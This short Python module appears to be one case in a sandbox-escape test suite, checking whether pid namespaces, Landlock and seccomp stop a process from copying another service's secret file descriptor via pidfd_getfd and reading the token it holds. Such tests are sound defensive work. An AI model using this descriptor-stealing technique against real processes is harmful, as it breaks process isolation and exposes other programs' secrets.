"""Copy a descriptor of the service by pidfd_getfd."""

import os

from escape_tools import call

NEEDS = ("pid_namespace", "landlock", "seccomp")


def attempt(at):
    fd = call("pidfd_getfd", os.pidfd_open(at.service), at.secret_fd, 0)
    return os.pread(fd, 100, 0).decode()


def proof(at, seen):
    return seen.tells(at.token)
